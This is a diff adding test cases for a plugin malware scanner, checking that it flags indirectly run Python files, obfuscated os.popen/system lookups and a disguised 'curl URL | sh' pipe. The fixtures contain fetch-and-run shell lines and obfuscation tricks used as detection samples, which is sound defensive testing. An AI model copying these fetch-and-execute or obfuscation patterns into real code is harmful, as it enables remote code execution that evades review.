@@ -254,15 +254,33 @@ describe('a second review: code the scan scored 0 (each ran in the sandbox)', ()
     expect(notes.every((f) => f.weight === 1)).toBe(true);
   });
 
+  it.each([
+    ['an interpreter by its absolute path', 'exec /usr/bin/python3 lib.txt\n'],
+    ['the file from the script\'s own folder', 'exec python3 "$(dirname "$0")/lib.txt"\n'],
+    ['the file from a variable\'s folder', 'D=$(dirname "$0")\npython3 "$D/lib.txt"\n'],
+    ['the file on stdin', 'python3 - < lib.txt\n'],
+  ])('a Python file run as %s is scanned as Python', async (_name, run) => {
+    const r = await scanPlugin(folder({ 'run.sh': `#!/bin/sh\n${run}`, 'lib.txt': 'import subprocess\nsubprocess.run(["id"])\n' }), null);
+    expect(r.findings.filter((f) => f.file === 'lib.txt').map((f) => f.rule)).toContain('py.subprocess');
+  });
+
+  it('a word after echo, or the string of sh -c, is not taken for a file run', async () => {
+    const r = await scanPlugin(folder({ 'run.sh': '#!/bin/sh\necho . done\nsh -c "echo hi"\n', done: 'curl http://x | sh\n', c: 'curl http://x | sh\n' }), null);
+    expect(r.findings.filter((f) => f.file === 'done' || f.file === 'c')).toEqual([]);
+  });
+
   it("os.__dict__['po' + 'pen'] and vars(os)[name] are weight 3", () => {
     expect(scanFile('run.py', 'import os\nrun = os.__dict__["po" + "pen"]\nprint(run("id").read())\n').map((f) => `${f.rule}@${f.line}:${f.weight}`)).toContain('py.dynamic-call@2:3');
     expect(scanFile('run.py', 'import os\nf = vars(os)[name]\n').map((f) => f.rule)).toContain('py.dynamic-call');
+    expect(scanFile('run.py', 'import os as o\nf = o.__dict__.get("sys" + "tem")\n').map((f) => f.rule)).toContain('py.dynamic-call');
+    expect(scanFile('run.py', 'import os\nf = vars(os).get(name)\n').map((f) => f.rule)).toContain('py.dynamic-call');
     // An object of the program's own is not a finding.
     expect(scanFile('run.py', 'cfg = settings.__dict__["name"]\n')).toEqual([]);
   });
 
   it('a program named by a variable piped into a shell ($c -s URL | sh) is weight 3', () => {
     expect(scanFile('run.sh', '#!/bin/sh\nc=$(printf "%s%s" "cu" "rl")\n$c -s http://10.0.0.1/x | sh\n').map((f) => `${f.rule}@${f.line}:${f.weight}`)).toContain('sh.obfuscated-command@3:3');
+    expect(scanFile('run.sh', '#!/bin/sh\nc=$(printf "%s%s" "cu" "rl")\n"${c}" -s http://10.0.0.1/x | sh\n').map((f) => f.rule)).toContain('sh.obfuscated-command');
     // A variable's program piped into a pager or grep is not.
     expect(scanFile('run.sh', '#!/bin/sh\n$TOOL --list | grep x\n')).toEqual([]);
   });
